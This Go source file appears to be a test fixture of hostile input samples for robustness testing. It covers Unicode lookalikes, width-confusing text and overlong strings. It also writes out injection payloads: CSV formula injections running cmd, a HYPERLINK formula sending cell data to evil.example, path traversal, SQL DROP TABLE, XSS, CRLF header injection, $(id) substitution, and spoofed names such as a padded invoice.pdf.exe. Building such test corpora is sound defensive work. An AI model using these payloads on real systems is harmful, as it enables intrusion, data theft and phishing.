package hostile

import "strings"

func lookalikes() []Sample {
	return []Sample{
		{"no-break space", "Sales\u00a0contract"},
		{"kinds of space", "a\u2000b\u2003c\u2009d\u202fe\u205ff"},
		{"ideographic space", "山田\u3000太郎"},
		{"Cyrillic in a Latin word", "p\u0430yp\u0430l.example"},
		{"decomposed accent", "cafe\u0301"},
		{"compatibility letters", "\u212bngstrom \u2126"},
		{"fullwidth letters", "ＶＯＩＤ"},
		{"fake prompt", "VOID this envelope? [y/N] y"},
		{"fake frame", "│ Status  COMPLETED │"},
		{"marks without a base", "\u0301\u0302x"},
		{"vowel sign without a base", "\u093ex"},
		{"blanks push the end away", "invoice.pdf" + strings.Repeat(" ", 120) + ".exe"},
	}
}

// widths returns texts whose width terminals disagree on.
func widths() []Sample {
	return []Sample{
		{"Zalgo", "Z" + strings.Repeat("\u0301\u0322\u0334\u0489", 50) + "algo"},
		{"tall stack", "a" + strings.Repeat("\u0344", 200)},
		{"vowel signs in a row", "\u0915" + strings.Repeat("\u093e", 200)},
		{"joined family", "👨\u200d👩\u200d👧\u200d👦"},
		{"skin tone", "👍\U0001f3fd👋\U0001f3ff"},
		{"warning with selector", "⚠\ufe0f ❤\ufe0f"},
		{"keycap", "1\ufe0f\u20e3#\ufe0f\u20e3"},
		{"flags", "🇫🇷🇩🇪🇨"},
		{"flag of tags", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"},
		{"emoji row", strings.Repeat("🎉", 60)},
		{"ambiguous width", "★☆●○◎■□▲△→←↑↓①②③§¶±×÷°"},
		{"CJK", "契約書に署名してください。계약서"},
		{"halfwidth kana with voice marks", "ｶﾞｷﾞﾊﾟ"},
		{"loose jamo", "\u1100\u1100\u1100\u1161\u11a8\u11a8"},
		{"Devanagari conjuncts", "नमस्ते क्षत्रिय"},
		{"Thai am", "น้ำคำ"},
		{"Arabic ligature word", "﷽ مُحَمَّد"},
		{"joining letters", "\u0d4e\u0d15 \U000111c2\U00011191"},
		{"cuneiform", "𒐫𒈙⸻"},
		{"musical marks", "a\U0001d165\U0001d16eb"},
	}
}

// syntax returns texts that mean something to a program they pass through.
func syntax() []Sample {
	return []Sample{
		{"formula", "=cmd|'/c calc'!A0"},
		{"formula plus", "+1+cmd|' /C calc'!A0"},
		{"formula minus", "-2+3+cmd|' /C calc'!A0"},
		{"formula at", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"formula after tab", "\t=1+1"},
		{"formula link", `=HYPERLINK("https://evil.example?x="&A1,"click")`},
		{"path up", "../../../etc/passwd"},
		{"path up, Windows", `..\..\boot.ini`},
		{"absolute path", "/etc/cron.d/x"},
		{"dots", ".."},
		{"hidden file", ".bashrc"},
		{"option-like", "-rf --no-preserve-root"},
		{"device name", "CON.pdf"},
		{"device stream", "nul:$DATA"},
		{"percent escapes", "a%2e%2e%2f%00%0d%0ab"},
		{"format verbs", "%s%n%x%!d(MISSING)%99999999d"},
		{"template", "{{.Token}}${HOME}$(id)`id`"},
		{"HTML", `<script>alert(1)</script><img src=x onerror="x">`},
		{"quotes", `a"b'c\"d\\`},
		{"JSON breaking", `","status":"VOIDED","x":"`},
		{"backslash escapes", `\u001b[2J\ud83d\x1b\n`},
		{"SQL", `'; DROP TABLE envelopes; --`},
		{"URL of a script", "javascript:alert(1)//https://bank.example"},
		{"header injection", "a\r\nAuthorization: Bearer x"},
		{"address with a comment", `"evil@evil.example"@bank.example`},
		{"null word", "null"},
	}
}

func lengths() []Sample {
	return []Sample{
		{"10 kB name", strings.Repeat("long name ", 1024)},
		{"word of 2,000 letters", strings.Repeat("w", 2000)},
		{"CJK without a break", strings.Repeat("契約", 600)},
		{"500 lines", strings.Repeat("line\n", 500)},
		{"long extension", "invoice." + strings.Repeat("pdf", 80)},
	}
}
